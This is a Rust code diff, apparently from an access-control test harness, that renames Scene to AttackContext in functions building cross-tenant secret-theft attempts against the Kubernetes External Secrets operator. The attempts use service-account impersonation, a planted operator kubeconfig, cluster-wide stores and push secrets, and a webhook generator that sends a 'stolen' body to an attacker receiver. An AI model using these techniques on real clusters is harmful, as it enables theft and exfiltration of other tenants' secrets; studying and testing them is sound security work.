@@ -2,15 +2,15 @@
 
 use serde_json::json;
 
-use super::{Attempt, Scene};
-use crate::p08_access_control::aim::Goal;
+use super::{AttackContext, Attempt};
 use crate::p08_access_control::call::{CORE, Call, EXTERNAL_SECRETS, GENERATORS, PUSH_SECRETS, collection};
+use crate::p08_access_control::objective::Goal;
 use crate::p08_access_control::objects::{self, CENTRAL, OWN};
 use crate::p08_access_control::route::{Disguise, Impostor, PlatformKind, Route};
 
 /// A store of the tenant's own that reads the source.
-pub(super) fn own(scene: &Scene<'_>, how: Impostor, goal: &Goal<'_>, name: &str) -> Option<Attempt> {
-    let stores = scene.of_mine(EXTERNAL_SECRETS, "secretstores");
+pub(super) fn own(context: &AttackContext<'_>, how: Impostor, goal: &Goal<'_>, name: &str) -> Option<Attempt> {
+    let stores = context.of_mine(EXTERNAL_SECRETS, "secretstores");
     let (source, key) = (&goal.source.name, goal.key);
     let mut reads = objects::reading(OWN, name, source, key);
     let mut prepare = Vec::new();
@@ -18,40 +18,45 @@ pub(super) fn own(scene: &Scene<'_>, how: Impostor, goal: &Goal<'_>, name: &str)
         Impostor::AccountOfTheSameName => {
             let account = &goal.store.kubernetes.as_ref()?.service_account()?.name;
             let account = objects::object("v1", "ServiceAccount", account, json!({}));
-            prepare.push(Call::create(scene.of_mine(CORE, "serviceaccounts"), account));
-            objects::as_central(scene.server, goal)?
+            prepare.push(Call::create(context.of_mine(CORE, "serviceaccounts"), account));
+            objects::as_central(context.server, goal)?
         }
         Impostor::OperatorFile => {
-            let kubeconfig = objects::kubeconfig(scene.server, scene.operator_token);
+            let kubeconfig = objects::kubeconfig(context.server, context.operator_token);
             let secret = objects::object("v1", "Secret", name, json!({ "stringData": { "kubeconfig": kubeconfig } }));
-            prepare.push(Call::create(scene.of_mine(CORE, "secrets"), secret));
+            prepare.push(Call::create(context.of_mine(CORE, "secrets"), secret));
             json!({ "kubernetes": {
                 "remoteNamespace": goal.source.namespace, "authRef": { "name": name, "key": "kubeconfig" } } })
         }
         Impostor::OperatorLogin => {
             let login = json!({ "mountPath": "kubernetes", "role": "it" });
-            json!({ "vault": { "server": scene.receiver, "path": "it", "auth": { "kubernetes": login } } })
+            json!({ "vault": { "server": context.receiver, "path": "it", "auth": { "kubernetes": login } } })
         }
         Impostor::ForeignAuthority => {
-            reads = objects::reading(OWN, name, &scene.private(), objects::VALUE);
-            objects::with_authority(scene.own_provider(), scene.neighbour, &scene.authority())
+            reads = objects::reading(OWN, name, &context.private(), objects::VALUE);
+            objects::with_authority(context.own_provider(), context.neighbour, &context.authority())
         }
     };
     // The operator would wait for the API server that it cannot reach under another name.
     let store = (how != Impostor::OperatorLogin).then(|| format!("{stores}/{name}"));
     let call = Call::create(stores, objects::store(OWN, name, provider));
-    let then = Some(scene.create_external_secret(name, reads));
-    let attempt = Attempt::of_route(scene, Route::OwnStore(how), goal, call, scene.harmless_store(name));
-    Some(Attempt { prepare, store, then, ..attempt.read_by(scene, name) })
+    let then = Some(context.create_external_secret(name, reads));
+    let attempt = Attempt::of_route(context, Route::OwnStore(how), goal, call, context.harmless_store(name));
+    Some(Attempt { prepare, store, then, ..attempt.read_by(context, name) })
 }
 
 /// An object of a kind that belongs to the platform. What it reads is in the tenant's reach if it works.
-pub(super) fn platform(scene: &Scene<'_>, kind: PlatformKind, goal: &Goal<'_>, name: &str) -> Option<Attempt> {
-    let selectors = json!([{ "matchLabels": { "kubernetes.io/metadata.name": scene.mine } }]);
+pub(super) fn platform(
+    context: &AttackContext<'_>,
+    kind: PlatformKind,
+    goal: &Goal<'_>,
+    name: &str,
+) -> Option<Attempt> {
+    let selectors = json!([{ "matchLabels": { "kubernetes.io/metadata.name": context.mine } }]);
     let everywhere = |api: &str, resource: &str| collection(api, None, resource);
     let beta = "external-secrets.io/v1alpha1";
-    let push = objects::pushing(goal, &scene.private());
-    let of_route = |call| Attempt::of_route(scene, Route::Platform(kind), goal, call, None);
+    let push = objects::pushing(goal, &context.private());
+    let of_route = |call| Attempt::of_route(context, Route::Platform(kind), goal, call, None);
     Some(match kind {
         PlatformKind::ClusterExternalSecret => {
             let mut reads = objects::reading(goal.store.kind(), goal.store.object_name(), &goal.source.name, goal.key);
@@ -60,44 +65,44 @@ pub(super) fn platform(scene: &Scene<'_>, kind: PlatformKind, goal: &Goal<'_>, n
                 json!({ "externalSecretName": name, "namespaceSelectors": selectors, "externalSecretSpec": reads });
             let object =
                 objects::object("external-secrets.io/v1", "ClusterExternalSecret", name, json!({ "spec": spec }));
-            of_route(Call::create(everywhere(EXTERNAL_SECRETS, "clusterexternalsecrets"), object)).read_by(scene, name)
+            of_route(Call::create(everywhere(EXTERNAL_SECRETS, "clusterexternalsecrets"), object))
+                .read_by(context, name)
         }
         PlatformKind::ClusterSecretStore => {
-            let provider = objects::as_central(scene.server, goal)?;
+            let provider = objects::as_central(context.server, goal)?;
             let namespace = &goal.source.namespace;
             let provider = objects::with_authority(provider, namespace, "kube-root-ca.crt");
             let stores = everywhere(EXTERNAL_SECRETS, "clustersecretstores");
             let store = Some(format!("{stores}/{name}"));
             let reads = objects::reading(CENTRAL, name, &goal.source.name, goal.key);
-            let then = Some(scene.create_external_secret(name, reads));
+            let then = Some(context.create_external_secret(name, reads));
             let call = Call::create(stores, objects::store(CENTRAL, name, provider));
-            Attempt { store, then, ..of_route(call).read_by(scene, name) }
+            Attempt { store, then, ..of_route(call).read_by(context, name) }
         }
         PlatformKind::ClusterGenerator => {
             let body = super::templates::stolen(Disguise::Plain, goal);
-            let spec =
-                json!({ "kind": "Webhook", "generator": { "webhookSpec": objects::webhook(&scene.receiver, &body) } });
+            let spec = json!({ "kind": "Webhook", "generator": { "webhookSpec": objects::webhook(&context.receiver, &body) } });
             let version = "generators.external-secrets.io/v1alpha1";
             let object = objects::object(version, "ClusterGenerator", name, json!({ "spec": spec }));
-            let then = Some(scene.create_external_secret(name, objects::generated("ClusterGenerator", name)));
+            let then = Some(context.create_external_secret(name, objects::generated("ClusterGenerator", name)));
             let call = Call::create(everywhere(GENERATORS, "clustergenerators"), object);
-            Attempt { then, ..of_route(call).read_by(scene, name) }
+            Attempt { then, ..of_route(call).read_by(context, name) }
         }
         PlatformKind::PushSecret => {
             let object = objects::object(beta, "PushSecret", name, json!({ "spec": push }));
-            pushed(scene, of_route(Call::create(scene.of_mine(PUSH_SECRETS, "pushsecrets"), object)), name)
+            pushed(context, of_route(Call::create(context.of_mine(PUSH_SECRETS, "pushsecrets"), object)), name)
         }
         PlatformKind::ClusterPushSecret => {
             let spec = json!({ "pushSecretSpec": push, "namespaceSelectors": selectors });
             let object = objects::object(beta, "ClusterPushSecret", name, json!({ "spec": spec }));
             let call = Call::create(everywhere(PUSH_SECRETS, "clusterpushsecrets"), object);
-            pushed(scene, of_route(call), name)
+            pushed(context, of_route(call), name)
         }
     })
 }
 
 /// The same attempt, of which the operator says in a PushSecret of the tenant's namespace how it went.
-fn pushed(scene: &Scene<'_>, mut attempt: Attempt, name: &str) -> Attempt {
-    attempt.seen.object = Some(format!("{}/{name}", scene.of_mine(PUSH_SECRETS, "pushsecrets")));
+fn pushed(context: &AttackContext<'_>, mut attempt: Attempt, name: &str) -> Attempt {
+    attempt.seen.object = Some(format!("{}/{name}", context.of_mine(PUSH_SECRETS, "pushsecrets")));
     attempt
 }
